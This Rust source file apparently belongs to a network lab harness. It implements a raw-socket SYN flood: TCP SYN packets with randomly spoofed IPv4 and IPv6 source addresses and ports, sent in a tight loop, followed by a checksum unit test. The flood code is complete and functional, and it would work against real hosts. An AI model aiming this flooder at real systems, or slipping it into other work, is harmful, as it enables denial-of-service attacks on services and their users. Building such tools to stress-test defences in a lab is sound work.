//! SYN packets of strangers that don't exist, as fast as one thread can make them.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering};

use anyhow::{Context, Result};
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, connect, ipproto, send, socket_with, sockopt,
};

use crate::Node;

/// Looked at this often whether it is time to stop.
const BETWEEN_LOOKS: usize = 256;

impl Node {
    /// Sends until told to stop; each packet from a source and port of its own, to a port that is chosen anew
    /// each time. Gives how many it has handed to the kernel, of which some may be lost on the way.
    pub fn flood_syn(&self, to: IpAddr, ports: &[u16], stop: &AtomicBool) -> Result<u64> {
        self.inside(|| {
            let socket = open(to)?;
            let mut syn = Syn::new(to);
            let mut random = Random(0x2545_f491_4f6c_dd1d);
            let mut sent = 0;
            while !stop.load(Ordering::Relaxed) {
                for _ in 0..BETWEEN_LOOKS {
                    let (a, b) = (random.next(), random.next());
                    let port = ports[a as usize % ports.len()];
                    // What does not fit into the device's queue is lost, as it is on a wire.
                    sent += u64::from(send(&socket, syn.next(a >> 16, b, port), SendFlags::empty()).is_ok());
                }
            }
            Ok(sent)
        })
    }
}

/// A socket that takes packets with their own header.
fn open(to: IpAddr) -> Result<OwnedFd> {
    let family = if to.is_ipv4() { AddressFamily::INET } else { AddressFamily::INET6 };
    let socket = socket_with(family, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::RAW))
        .context("open a raw socket")?;
    sockopt::set_socket_send_buffer_size(&socket, 4 << 20).context("enlarge the buffer of a raw socket")?;
    connect(&socket, &SocketAddr::new(to, 0)).with_context(|| format!("aim a raw socket at {to}"))?;
    Ok(socket)
}

struct Syn {
    packet: Vec<u8>,
    /// Where TCP begins.
    tcp: usize,
    /// The part of TCP's checksum that never changes.
    fixed: u32,
}

impl Syn {
    fn new(to: IpAddr) -> Self {
        let mut packet;
        let tcp = match to {
            IpAddr::V4(to) => {
                packet = vec![0; 40];
                // The kernel fills in the length and the checksum of this header.
                packet[0] = 0x45;
                packet[8] = 64;
                packet[9] = 6;
                packet[16..20].copy_from_slice(&to.octets());
                20
            }
            IpAddr::V6(to) => {
                packet = vec![0; 60];
                packet[0] = 0x60;
                packet[5] = 20;
                packet[6] = 6;
                packet[7] = 64;
                packet[24..40].copy_from_slice(&to.octets());
                40
            }
        };
        // Twenty bytes of header, SYN, a window.
        packet[tcp + 12..tcp + 16].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
        let fixed = words(&packet[tcp - if tcp == 20 { 4 } else { 16 }..]) + 6 + 20;
        Self { packet, tcp, fixed }
    }

    fn next(&mut self, a: u64, b: u64, port: u16) -> &[u8] {
        let source = match self.tcp {
            // No network of the lab and none that hosts refuse as a source.
            20 => Ipv4Addr::new(11, (b >> 8) as u8, (b >> 16) as u8, (b >> 24) as u8).octets().to_vec(),
            _ => {
                let low = u128::from(b);
                Ipv6Addr::from(0x2a00_0001_0002_0003_u128 << 64 | low).octets().to_vec()
            }
        };
        let at = if self.tcp == 20 { 12 } else { 8 };
        self.packet[at..at + source.len()].copy_from_slice(&source);
        let mut changing = Vec::with_capacity(8);
        changing.extend_from_slice(&((a as u16) | 1024).to_be_bytes());
        changing.extend_from_slice(&port.to_be_bytes());
        changing.extend_from_slice(&((a >> 16) as u32).to_be_bytes());
        let mut sum = self.fixed + words(&source) + words(&changing);
        while sum > 0xffff {
            sum = (sum >> 16) + (sum & 0xffff);
        }
        let tcp = &mut self.packet[self.tcp..];
        tcp[..8].copy_from_slice(&changing);
        tcp[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
        &self.packet
    }
}

/// The sum of 16-bit words that the checksum is made of.
fn words(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|word| u32::from(word[0]) << 8 | u32::from(*word.get(1).unwrap_or(&0))).sum()
}

/// Marsaglia's xorshift: quick, and the same in every run.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_sums_up_as_its_receiver_expects() {
        for to in ["198.51.100.7", "2001:db8:1::7"] {
            let to: IpAddr = to.parse().unwrap();
            let mut syn = Syn::new(to);
            for n in 1..50u64 {
                let tcp = syn.tcp;
                let packet = syn.next(n * 0x1234_5678_9abc, n.wrapping_mul(0x9e37_79b9_7f4a_7c15), 443);
                let addresses = if tcp == 20 { &packet[12..20] } else { &packet[8..40] };
                let mut sum = words(addresses) + words(&packet[tcp..]) + 6 + 20;
                while sum > 0xffff {
                    sum = (sum >> 16) + (sum & 0xffff);
                }
                assert_eq!(sum, 0xffff, "{packet:?}");
                assert_eq!(packet[tcp + 2..tcp + 4], 443u16.to_be_bytes());
            }
        }
    }
}
